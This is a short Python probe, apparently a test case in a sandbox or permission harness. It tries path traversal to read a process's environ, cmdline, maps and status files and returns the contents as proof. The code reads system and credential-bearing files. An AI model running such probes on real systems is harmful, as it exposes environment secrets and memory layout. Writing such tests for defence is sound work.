# The environment and the memory of the process that opens.
# after: read
# source: path traversal
# granted: read
def attack(granted, **_):
    for tried in ("own/environ", "own/cmdline", "own/maps", "own/status"):
        try:
            return {"proof": open(f"{granted}/{tried}").read()[:100]}
        except OSError:
            continue
